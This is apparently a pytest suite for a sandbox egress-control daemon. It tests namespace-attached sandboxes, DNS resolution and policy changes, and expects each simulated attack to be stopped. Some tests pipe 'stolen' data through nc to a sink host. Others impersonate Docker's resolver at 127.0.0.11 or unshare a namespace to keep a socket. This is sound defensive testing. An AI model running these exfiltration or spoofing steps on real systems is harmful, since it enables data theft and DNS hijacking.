"""Sandboxes of the daemon whose sockets to the outside are opened in their own network: servers see the sandbox's address, and
names are asked of servers that are reached from there alone. The attacks on what that takes are those on a sidecar, in
test_sidecar.py and test_escapes_shared.py."""

from __future__ import annotations

import contextlib
import functools
import os
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import dns.message
import dns.rrset
import pytest

from lab import plan
from lab.asker import Asker
from lab.daemon import Answer, Daemon, Sandbox, attachment, running
from lab.internet import Internet
from lab.namespaces import Namespace
from lab.processes import check, wait_until
from lab.sandgate import allowing
from lab.sidecar import inside

BOX4, BOX6 = "10.78.0.2", "fd78::2"
"""The addresses of the fixture `box`."""
OUTSIDE4 = "10.78.0.1"
"""The Internet's end of its link, to which the node has no way."""


def attach(daemon: Daemon, box: Namespace, policy: object, **fields: object) -> Sandbox:
    path = f"/run/netns/{box.name}"
    return daemon.create(policy, id="box", attachment={"netns": path, "upstreamInside": True, **fields})


def threads_inside(daemon: Daemon, box: Namespace) -> int:
    """How many of the daemon's threads live in the namespace."""
    wanted, found = os.stat(f"/run/netns/{box.name}").st_ino, 0
    for task in Path(f"/proc/{daemon.pid}/task").iterdir():
        with contextlib.suppress(OSError):
            found += os.stat(task / "ns/net").st_ino == wanted
    return found


def send(sandbox: Sandbox, port: int = 4444) -> None:
    script = f"import socket; socket.socket(2, 2).sendto(b'datagram', ('{plan.SINK4}', {port}))"
    assert sandbox.run("/usr/bin/python3", "-c", script).returncode == 0


@pytest.mark.honest("servers that know the sandbox by its address")
def test_servers_see_the_sandboxs_address(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    policy = allowing(plan.ALLOWED, {"target": plan.SINK4, "protocol": "udp", "ports": [4444]})
    for upstream_inside, expected4, expected6 in ((False, plan.NODE4, plan.NODE6), (True, BOX4, BOX6)):
        sandbox = attach(daemon, box, policy, upstreamInside=upstream_inside)
        assert sandbox.ask("GET").json["upstreamInside"] == upstream_inside
        assert sandbox.reaches(plan.ALLOWED, "-4") and sandbox.reaches(plan.ALLOWED, "-6")
        send(sandbox)
        assert [request.client for request in internet.web.requests()] == [expected4, expected6]
        asked = {(query.name.lower(), query.client) for query in internet.dns.queries()}
        assert asked == {(plan.ALLOWED, expected4)}
        wait_until(lambda: [a.peer for a in internet.sinks.arrivals() if a.data] == [expected4], "the datagram")
        assert threads_inside(daemon, box) == int(upstream_inside)
        # Denied is what was denied before, and nobody is asked of it.
        assert not sandbox.reaches(plan.DENIED) and not sandbox.reaches(plan.OTHER)
        pinned = ("--resolve", f"{plan.OTHER}:443:{plan.SHARED4}")
        assert not sandbox.reaches(plan.OTHER, *pinned)
        sandbox.run("/bin/sh", "-c", f"echo stolen | nc -w 2 {plan.SINK4} 4444; echo stolen | nc -w 1 -u {plan.SINK4} 443")
        assert internet.web.requests() == [] and internet.dns.queries() == [] and internet.sinks.arrivals() == []
        assert sandbox.ask("DELETE").status == 204
        assert "sandgate" not in box.check("nft", "list", "ruleset")
        wait_until(lambda: threads_inside(daemon, box) == 0, "the thread's end")


@pytest.mark.attack("N4", "connects to an address that the node gets while it is being attached", stopped_by="connect")
def test_address_that_the_node_gets_meanwhile(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """The daemon waits for a process to go, as it does for a container runtime's own."""
    address, link = f"{plan.V4}.201", f"sgside-{os.getpid()}"
    check("ip", "link", "add", link, "type", "veth", "peer", "name", "side", "netns", box.name)
    server = socket.socket()
    answers: list[Answer] = []
    body = {
        "id": "box",
        "attachment": {"netns": f"/run/netns/{box.name}", "upstreamInside": True, "acceptSidePaths": True},
        "networkPolicy": {"defaultAction": "allow"},
    }
    request = threading.Thread(target=lambda: answers.append(daemon.request("POST", "/v1/sandboxes", body)))
    question = {"networkPolicy": body["networkPolicy"], "ip": address, "port": plan.CANARY_PORT}
    try:
        check("ip", "address", "add", "10.77.77.1/30", "dev", link)
        check("ip", "link", "set", link, "up")
        box.ip("address", "add", "10.77.77.2/30", "dev", "side")
        box.ip("link", "set", "side", "up")
        box.ip("route", "add", f"{address}/32", "via", "10.77.77.1")
        with subprocess.Popen(box.command("sleep", "infinity"), stdin=subprocess.DEVNULL) as process:
            request.start()
            wait_until(lambda: daemon.request("GET", "/v1/sandboxes/box").status == 200, "the beginning")
            check("ip", "address", "add", f"{address}/32", "dev", link)
            explain = functools.partial(daemon.request, "POST", "/v1/policies/explain", question)
            wait_until(lambda: explain().json["verdict"] == "deny", "the daemon to know the address")
            process.kill()
        request.join()
        assert [answer.status for answer in answers] == [201], answers
        server.bind((address, plan.CANARY_PORT))
        server.listen()
        server.setblocking(False)
        sandbox = Sandbox(daemon, "box", f"/run/netns/{box.name}")
        sandbox.run("/bin/sh", "-c", f"echo stolen | nc -w 2 {address} {plan.CANARY_PORT}")
        with pytest.raises(BlockingIOError):
            server.accept()
        wait_until(lambda: any(record.get("ip") == address for record in daemon.records(sandbox="box")), "its record")
    finally:
        server.close()
        check("ip", "link", "delete", link)


@contextlib.contextmanager
def nameserver(internet: Internet, name: str) -> Iterator[None]:
    """A nameserver at :data:`OUTSIDE4` that knows one name, at the address of the web server."""
    options = ("--keep-in-foreground", "--bind-interfaces", f"--listen-address={OUTSIDE4}", "--no-resolv", "--no-hosts")
    records = (f"--host-record={name},{plan.SHARED4}", "--local=/#/", "--conf-file=/dev/null", "--user=root", "--pid-file=")
    process = subprocess.Popen(internet.namespace.command("dnsmasq", *options, *records), stderr=subprocess.DEVNULL)
    try:
        ask = internet.namespace.command("dig", "+short", "+tries=1", "+timeout=1", f"@{OUTSIDE4}", name)
        wait_until(lambda: plan.SHARED4 in subprocess.run(ask, capture_output=True, text=True).stdout, "the nameserver")
        yield
    finally:
        process.kill()
        process.wait()


@pytest.mark.honest("names that are resolved in the sandbox's own network alone")
def test_names_that_are_known_inside_alone(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    name = "intern.example"

    def is_served(sandbox: Sandbox) -> bool:
        return f"served {name}" in sandbox.run("curl", "-sS", "-m", "8", f"http://{name}/").stdout

    with nameserver(internet, name):
        ways: tuple[tuple[dict[str, object], bool], ...] = (({}, False), ({"nameservers": [OUTSIDE4]}, True))
        for fields, expected in ways:
            sandbox = attach(daemon, box, allowing(name), **fields)
            assert is_served(sandbox) is expected, daemon.log
            # Only one of them is asked.
            assert (name in internet.dns.names()) is not expected
            assert sandbox.ask("DELETE").status == 204
        assert [(request.host, request.client) for request in internet.web.requests()] == [(name, BOX4)]
        # Asked again by the next process: the record says how.
        sandbox = attach(daemon, box, allowing(name), nameservers=[OUTSIDE4])
        daemon.restart()
        assert is_served(sandbox) and threads_inside(daemon, box) == 1


@pytest.mark.attack(
    "T4 T8 N9",
    "goes on with connections and pinned addresses after its policy was narrowed, it was paused or the daemon was killed, "
    "where sockets are opened inside",
    stopped_by="relay, kernel",
)
def test_life_of_such_a_sandbox(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    sandbox = attach(daemon, box, allowing(plan.ALLOWED, plan.FILES))
    asker = Asker(sandbox.start(*Asker.command(plan.ALLOWED)))
    answer = asker.ask()
    pinned = ("--resolve", f"{plan.ALLOWED}:443:{plan.SHARED4}")
    # The next process goes on with the same connection, whose socket has the pass of the one before.
    for _ in range(2):
        daemon.hand_over()
        assert asker.ask() == answer
        assert sandbox.reaches(plan.ALLOWED) and threads_inside(daemon, box) == 1
    assert sandbox.ask("PUT", "/policy", allowing(plan.FILES)).status == 200
    assert asker.ask() != answer
    asker.end()
    assert not sandbox.reaches(plan.ALLOWED, *pinned)
    assert sandbox.ask("PUT", "/policy", allowing(plan.ALLOWED)).status == 200
    assert sandbox.reaches(plan.ALLOWED)
    assert sandbox.ask("POST", "/pause").status == 200
    assert not sandbox.reaches(plan.ALLOWED, *pinned)
    daemon.restart()
    assert sandbox.state == "Paused" and not sandbox.reaches(plan.ALLOWED, *pinned)
    assert sandbox.ask("POST", "/resume").status == 200
    assert sandbox.reaches(plan.ALLOWED)
    # Without a daemon nothing leaves; the next one, with another pass, goes on.
    daemon.end(signal.SIGKILL)
    internet.forget()
    with internet.capture(f"host {BOX4} or host {BOX6}", unenforced=True) as capture:
        assert not sandbox.reaches(plan.ALLOWED, *pinned)
    assert [line for line in capture.lines if f"IP {BOX4}" in line or f"IP6 {BOX6}" in line] == [], capture
    daemon.start()
    assert sandbox.reaches(plan.ALLOWED)
    assert {request.client for request in internet.web.requests()} <= {BOX4, BOX6}
    # Metrics do not go back when the thread that counted has ended.
    before = daemon.metrics()["sandgate_connect_seconds_count"]
    assert before > 0 and sandbox.ask("DELETE").status == 204
    assert daemon.metrics()["sandgate_connect_seconds_count"] == before
    assert attach(daemon, box, allowing(plan.ALLOWED)).reaches(plan.ALLOWED)


def test_network_that_vanishes(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    before = len(os.listdir(f"/proc/{daemon.pid}/task"))
    sandbox = attach(daemon, box, allowing(plan.ALLOWED))
    assert sandbox.reaches(plan.ALLOWED)
    box.remove()
    sandbox.wait_for("gone")
    wait_until(lambda: len(os.listdir(f"/proc/{daemon.pid}/task")) <= before, "the thread's end")


@pytest.mark.attack(
    "T14", "has an accomplice outside change the rules where sockets are opened inside", stopped_by="kernel"
)
def test_rules_that_somebody_else_changes(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    sandbox = attach(daemon, box, allowing(plan.ALLOWED))
    assert sandbox.reaches(plan.ALLOWED)
    internet.forget()
    box.check("nft", "add", "table", "inet", "mine")
    sandbox.wait_for("Failed")
    assert sandbox.ask("GET").json["status"]["reason"] == "ruleset-changed"
    assert not sandbox.reaches(plan.ALLOWED, "--resolve", f"{plan.ALLOWED}:443:{plan.SHARED4}")
    assert internet.web.requests() == [] and threads_inside(daemon, box) == 0


@pytest.mark.parametrize(
    ("fields", "path"),
    [
        ({"create": True}, "attachment"),
        ({"upstreamInside": "yes"}, "attachment.upstreamInside"),
        ({"nameservers": ["127.0.0.11"]}, "attachment.nameservers[0]"),
        ({"nameservers": ["::1"]}, "attachment.nameservers[0]"),
        ({"nameservers": ["dns.example"]}, "attachment.nameservers[0]"),
        ({"nameservers": []}, "attachment.nameservers"),
        ({"nameservers": ["192.0.2.1"] * 9}, "attachment.nameservers"),
        ({"dockerNames": 1}, "attachment.dockerNames"),
        ({"dockerNames": True, "acceptRawSockets": True}, "attachment"),
        ({"dockerNames": True, "dockerDomains": []}, "attachment.dockerDomains"),
        ({"dockerNames": True, "dockerDomains": ["*.internal"]}, "attachment.dockerDomains[0]"),
        ({"dockerDomains": ["internal"]}, "attachment"),
        ({"upstreamInside": False, "dockerNames": True}, "attachment"),
        ({"upstreamInside": False, "nameservers": ["192.0.2.1"]}, "attachment"),
    ],
    ids=str,
)
def test_what_cannot_be_asked_for(internet: Internet, daemon: Daemon, fields: dict[str, object], path: str) -> None:
    attachment = {"upstreamInside": True} | ({} if "create" in fields else {"netns": "/run/netns/absent"}) | fields
    answer = daemon.request("POST", "/v1/sandboxes", {"attachment": attachment})
    assert answer.status == 400 and path in [detail["path"] for detail in answer.json["details"]], answer


def test_nameserver_of_the_node_itself(internet: Internet, tmp_path: Path, box: Namespace) -> None:
    """A resolver on the node's loopback, as systemd-resolved's is, is in each network another one's place."""
    with running(internet, tmp_path, upstream_dns="127.0.0.53") as daemon:
        attachment = {"netns": f"/run/netns/{box.name}", "upstreamInside": True}
        answer = daemon.request("POST", "/v1/sandboxes", {"attachment": attachment})
        assert answer.status == 422 and "127.0.0.53:53" in answer.text and "say nameservers" in answer.text, answer
        assert "sandgate" not in box.check("nft", "list", "ruleset") and threads_inside(daemon, box) == 0
        assert attach(daemon, box, allowing(plan.ALLOWED), nameservers=[plan.DNS4]).reaches(plan.ALLOWED)


def test_operator_may_forbid_it(internet: Internet, tmp_path: Path, box: Namespace) -> None:
    configuration = tmp_path / "configuration.yaml"
    attachment = {"netns": f"/run/netns/{box.name}", "upstreamInside": True}
    configuration.write_text("maximumUpstreamInside: 0\n")
    with running(internet, tmp_path, "--config", str(configuration)) as daemon:
        answer = daemon.request("POST", "/v1/sandboxes", {"id": "box", "attachment": attachment})
        assert answer.status == 422 and "maximumUpstreamInside: 0" in answer.text, answer
        assert "sandgate" not in box.check("nft", "list", "ruleset")
        assert daemon.request("GET", "/v1/sandboxes?state=all").json["items"] == []
        daemon.end()
        # One that there was is closed, until it is allowed again.
        configuration.write_text("maximumUpstreamInside: 1\n")
        daemon.start()
        sandbox = attach(daemon, box, allowing(plan.ALLOWED))
        assert sandbox.reaches(plan.ALLOWED)
        daemon.end()
        configuration.write_text("maximumUpstreamInside: 0\n")
        daemon.start()
        assert sandbox.state == "Failed" and not sandbox.reaches(plan.ALLOWED)
        daemon.end()
        configuration.write_text("")
        daemon.start()
        assert sandbox.state == "Running" and sandbox.reaches(plan.ALLOWED)


def test_limit_holds_for_requests_at_once(internet: Internet, tmp_path: Path) -> None:
    configuration = tmp_path / "configuration.yaml"
    configuration.write_text("maximumUpstreamInside: 1\n")
    boxes = [Namespace(f"box{number}") for number in range(6)]
    try:
        with running(internet, tmp_path, "--config", str(configuration)) as daemon, ThreadPoolExecutor(len(boxes)) as pool:

            def create(box: Namespace) -> int:
                body = {"attachment": attachment(box, upstreamInside=True)}
                return daemon.request("POST", "/v1/sandboxes", body).status

            assert sorted(pool.map(create, boxes)) == [201, 503, 503, 503, 503, 503]
    finally:
        for box in boxes:
            box.remove()


# Docker's resolver, played by this process: its sockets are in the network, and nobody in there holds one.


class Engine:
    """Answers questions at 127.0.0.11 in a network, over TCP, by one address, from outside of that network."""

    def __init__(self, box: Namespace, address: str, port: int = 0) -> None:
        self._address = address
        self.names: list[str] = []
        """What was asked for."""
        with inside(box.name):
            self._listener = socket.create_server(("127.0.0.11", port))
        self.port = self._listener.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                with connection, connection.makefile("rb") as stream:
                    while head := stream.read(2):
                        query = dns.message.from_wire(stream.read(int.from_bytes(head, "big")))
                        question = query.question[0]
                        self.names.append(question.name.to_text().lower().removesuffix("."))
                        answer = dns.message.make_response(query)
                        if question.rdtype == dns.rdatatype.A:
                            answer.answer.append(dns.rrset.from_text(question.name, 60, "IN", "A", self._address))
                        message = answer.to_wire()
                        connection.sendall(len(message).to_bytes(2, "big") + message)

    def end(self) -> None:
        # What waits in accept(2) is woken by this, and by close(2) not.
        self._listener.shutdown(socket.SHUT_RDWR)
        self._thread.join()
        self._listener.close()


@pytest.fixture
def engine(box: Namespace) -> Iterator[Engine]:
    made = Engine(box, plan.SHARED4)
    yield made
    with contextlib.suppress(OSError):
        made.end()


def resolved(sandbox: Sandbox, name: str) -> str:
    return sandbox.run("dig", "+short", "+tries=1", "+timeout=9", "@127.0.0.11", name).stdout.strip()


@pytest.mark.honest("names that Docker's resolver alone knows")
def test_names_of_one_label(internet: Internet, daemon: Daemon, box: Namespace, engine: Engine) -> None:
    sandbox = attach(daemon, box, allowing("db", plan.ALLOWED), dockerNames=True)
    assert resolved(sandbox, "db") == plan.SHARED4
    assert "served db" in sandbox.run("curl", "-sS", "-m", "8", "http://db/").stdout
    # A name that is not allowed is not asked for, nor is it there that others are.
    assert resolved(sandbox, "cache") == ""
    assert sandbox.reaches(plan.ALLOWED)
    assert set(engine.names) == {"db"}
    assert internet.dns.names() == {plan.ALLOWED}
    assert [(request.host, request.client) for request in internet.web.requests()][0] == ("db", BOX4)
    # The next process finds the same socket.
    daemon.restart()
    assert resolved(sandbox, "db") == plan.SHARED4


def test_names_with_a_dot(internet: Internet, daemon: Daemon, box: Namespace, engine: Engine) -> None:
    """Those that are named, with all below them, and no others."""
    policy = {"defaultAction": "allow", "egress": []}
    domains = {"upstreamInside": True, "dockerNames": True, "dockerDomains": ["internal", "db.shop"]}
    sandbox = attach(daemon, box, policy, **domains)
    asked = ("internal", "a.internal", "b.a.INTERNAL", "db.shop", "db")
    for _ in range(2):
        for name in asked:
            assert resolved(sandbox, name) == plan.SHARED4, name
        assert set(engine.names) == {name.lower() for name in asked}
        engine.names.clear()
        # The record says how.
        daemon.restart()
    for name in ("xinternal.example", "shop.example", "internal.example", "cache.shop"):
        assert resolved(sandbox, name) == ""
    assert engine.names == []


@pytest.mark.attack(
    "D2", "asks a resolver at 127.0.0.11 by itself where the daemon may ask it", stopped_by="kernel"
)
def test_resolver_is_out_of_reach(internet: Internet, daemon: Daemon, box: Namespace, engine: Engine) -> None:
    ask = ("dig", "+short", "+tcp", "+tries=1", "+timeout=2", "-p", str(engine.port), "@127.0.0.11", "secret")
    unguarded = subprocess.run(box.command(*ask), capture_output=True, text=True)
    assert plan.SHARED4 in unguarded.stdout, "it works without enforcement"
    engine.names.clear()
    policy = {"defaultAction": "allow", "egress": [{"action": "deny", "target": "secret"}]}
    sandbox = attach(daemon, box, policy, dockerNames=True)
    assert resolved(sandbox, "db") == plan.SHARED4
    assert plan.SHARED4 not in sandbox.run(*ask).stdout
    assert plan.SHARED4 not in sandbox.run(*ask[:-2], f"-b{BOX4}", *ask[-2:]).stdout
    assert set(engine.names) == {"db"}


@pytest.mark.attack(
    "T14",
    "listens in the place of a resolver at 127.0.0.11 that has gone, to answer in its name",
    stopped_by="dns",
)
def test_place_of_the_resolver(internet: Internet, daemon: Daemon, box: Namespace, engine: Engine) -> None:
    sandbox = attach(daemon, box, allowing("db", "cache"), dockerNames=True)
    assert resolved(sandbox, "db") == plan.SHARED4
    engine.end()
    assert resolved(sandbox, "cache") == ""
    impostor = Engine(box, plan.SINK4, engine.port)
    try:
        assert resolved(sandbox, "cache") == "", "another socket is not the one that was found"
        assert impostor.names == ["cache"], "it was asked, and answered"
        assert sandbox.run("nft", "list", "set", "inet", "sandgate", "pinned4").stdout.count(plan.SINK4) == 0
    finally:
        impostor.end()


IMPOSTOR = """\
import socket, sys
listener = socket.create_server(("127.0.0.11", 4053))
print("listening", flush=True)
sys.stdin.read()
"""


@pytest.mark.attack(
    "T14", "listens at 127.0.0.11 before it is attached, to be taken for Docker's resolver", stopped_by="start"
)
@pytest.mark.parametrize("leaves", [False, True], ids=["in the network", "gone to one of its own"])
def test_impostor_from_before(internet: Internet, daemon: Daemon, box: Namespace, leaves: bool) -> None:
    """One that leaves keeps its socket in this network."""
    leave = "import ctypes; assert ctypes.CDLL(None).unshare(0x50000000) == 0\n" if leaves else ""
    script = IMPOSTOR.replace('print("listening"', f'{leave}print("listening"')
    drop = ("setpriv", "--bounding-set=-net_raw,-net_admin,-sys_admin", "--inh-caps=-net_raw,-net_admin,-sys_admin")
    child = subprocess.Popen(
        box.command(*drop, "/usr/bin/python3", "-c", script), stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        assert child.stdout is not None and child.stdout.readline() == "listening\n"
        attachment = {"netns": f"/run/netns/{box.name}", "upstreamInside": True, "dockerNames": True}
        answer = daemon.request("POST", "/v1/sandboxes", {"attachment": attachment})
        assert answer.status == 422 and "no container engine answers at 127.0.0.11" in answer.text, answer
        assert "sandgate" not in box.check("nft", "list", "ruleset") and threads_inside(daemon, box) == 0
    finally:
        child.kill()
        child.communicate()
